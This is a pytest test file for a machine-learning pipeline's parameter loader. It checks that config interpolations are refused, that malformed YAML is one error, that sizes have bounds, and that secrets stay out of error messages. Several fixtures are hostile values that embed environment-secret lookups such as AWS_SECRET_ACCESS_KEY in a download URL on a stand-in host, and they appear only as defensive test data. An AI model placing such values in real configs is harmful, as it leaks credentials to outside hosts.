"""Hostile parameters (issue 9, class 4): params are data, not code; a file that is not a
parameter mapping is one error; sizes have upper bounds named with the key."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml

from ul.common.config import ConfigError, load
from ul.params import compose_params, write_params

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def ci_params():
    return compose_params(ROOT / "conf", ["preset=ci"])


def _write(tmp_path, data) -> Path:
    path = tmp_path / "params.yaml"
    path.write_text(data if isinstance(data, str) else yaml.safe_dump(data, sort_keys=False))
    return path


@pytest.mark.parametrize(
    "key, value",
    [
        ("data.source", "https://x.example/${oc.env:UL_TEST_SECRET}.tgz"),
        ("data.sha256", "${oc.env:UL_TEST_SECRET}"),
        ("data.resolution", "${data.channels}"),
        ("pixels.device", "${oc.decode:'cpu'}"),
    ],
)
def test_interpolations_in_params_overrides_and_compose_are_refused(tmp_path, monkeypatch, ci_params, key, value):
    monkeypatch.setenv("UL_TEST_SECRET", "hunter2")
    section, name = key.split(".")
    hostile = {**ci_params, section: {**ci_params[section], name: value}}
    with pytest.raises(ConfigError, match=rf"{key}=.*interpolations and resolvers are refused") as err:
        load(_write(tmp_path, hostile))
    assert "hunter2" not in str(err.value)
    with pytest.raises(ConfigError, match=rf"{key}=.*interpolations"):
        load(_write(tmp_path, ci_params), [f"{key}={value}"])
    out = tmp_path / "composed.yaml"
    with pytest.raises(ConfigError, match=rf"{key}=.*interpolations"):
        write_params(ROOT / "conf", ["preset=ci", f"{key}={value}"], out)
    assert not out.exists()


@pytest.mark.parametrize(
    "text, message",
    [
        ("", "is empty"),
        ("# just a comment\n\n", "is empty"),
        ("seed: [1, 2\n", "line 2: not valid YAML"),
        ("- a\n- b\n", "holds a list, not a mapping"),
        ("seed: 1\nseed: 2\n", "line 2: key 'seed' is given twice"),
        (b"seed: \xff\xfe\n", "not UTF-8"),
    ],
)
def test_a_file_that_is_not_a_parameter_mapping_is_one_error(tmp_path, text, message):
    path = tmp_path / "params.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(ConfigError, match=message):
        load(path)


def test_a_folder_or_a_pipe_is_not_a_parameter_file(tmp_path):
    (tmp_path / "dir.yaml").mkdir()
    with pytest.raises(ConfigError, match="not a regular file"):
        load(tmp_path / "dir.yaml")
    os.mkfifo(tmp_path / "pipe.yaml")
    with pytest.raises(ConfigError, match="not a regular file"):
        load(tmp_path / "pipe.yaml")  # would block on open


@pytest.mark.parametrize(
    "key, value",
    [
        ("data.resolution", 1 << 20),
        ("pixels.threads", 100_000),
        ("pixels.batch_size", 10**9),
        ("stage1.batch_size", 10**9),
        ("stage2.threads", 10**6),
        ("cache.batch_size", 10**9),
        ("eval.batch_size", 10**9),
        ("encoder.latent_channels", 10**6),
        ("seed", -1),
        ("seed", 2**40),
    ],
)
def test_sizes_have_upper_bounds_named_with_the_key(tmp_path, ci_params, key, value):
    with pytest.raises(ConfigError, match=rf"{key}={value}: must be"):
        load(_write(tmp_path, ci_params), [f"{key}={value}"])


def test_network_widths_and_depths_are_bounded(tmp_path, ci_params):
    with pytest.raises(ConfigError, match=r"decoder.channels=.*each <= 8192"):
        load(_write(tmp_path, ci_params), ["decoder.channels=[16,1000000]"])
    with pytest.raises(ConfigError, match=r"prior.channels=.*at most 16 stages"):
        load(_write(tmp_path, ci_params), ["prior.channels=[" + ",".join(["8"] * 17) + "]"])


def test_a_stage_reports_a_hostile_param_file_in_one_line(tmp_path, capsys, monkeypatch):
    from ul.stages import fetch

    monkeypatch.setenv("UL_TEST_SECRET", "hunter2")
    params = _write(tmp_path, "data: {source: 'https://x.example/${oc.env:UL_TEST_SECRET}'}\n")
    assert fetch.main(["--params", str(params), "--out", str(tmp_path / "raw")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: data.source=") and err.count("\n") == 1 and "hunter2" not in err
    assert not (tmp_path / "raw").exists()


def test_a_flow_refuses_interpolations_before_dvc_resolves_them():
    from flows import common

    with pytest.raises(ConfigError, match=r"data.source='\$\{oc.env:AWS_SECRET_ACCESS_KEY\}': interpolations"):
        common.refuse_interpolations(["preset=ci", "data.source=${oc.env:AWS_SECRET_ACCESS_KEY}"])
    common.refuse_interpolations(["preset=ci", "unified.loss_factor=1.5"])


def test_dvc_exp_run_refuses_an_interpolation_before_params_yaml_is_written(tmp_path):
    """`dvc exp run -S` composes and resolves with Hydra itself; the repository's Hydra plugin
    (hydra_plugins/ul_params_are_data.py) makes that resolution refuse, so the secret never
    reaches params.yaml or an experiment commit."""
    from project import copy_project, sh

    repo = copy_project(tmp_path)
    before = (repo / "params.yaml").read_bytes()
    hostile = "data.source=https://x.example/${oc.env:UL_TEST_SECRET}.tgz"
    r = sh(["dvc", "exp", "run", "-S", hostile], repo, check=False, UL_TEST_SECRET="hunter2")
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("ERROR")]
    assert r.returncode != 0 and len(errors) == 1, r.stderr
    assert "data.source='https://x.example/${oc.env:UL_TEST_SECRET}.tgz': interpolations" in errors[0]
    assert "hunter2" not in r.stdout + r.stderr
    assert (repo / "params.yaml").read_bytes() == before
    assert sh(["dvc", "exp", "list", "--all-commits"], repo).stdout.strip() == ""
    assert sh(["git", "status", "--porcelain"], repo).stdout == ""


def test_a_secret_value_in_params_stops_the_stage_naming_the_variable_only(tmp_path, capsys, monkeypatch, ci_params):
    """A secret's value that reached params.yaml some other way (pasted, composed by another tool):
    the stage refuses it, naming the variable and never the value."""
    from ul.stages import fetch

    monkeypatch.setenv("MY_API_TOKEN", "s3cr3t-value")
    hostile = {**ci_params, "data": {**ci_params["data"], "source": "https://x.example/s3cr3t-value.tgz"}}
    assert fetch.main(["--params", str(_write(tmp_path, hostile)), "--out", str(tmp_path / "raw")]) == 1
    err = capsys.readouterr().err
    assert "environment variable MY_API_TOKEN (a secret)" in err and "s3cr3t" not in err
    assert not (tmp_path / "raw").exists()
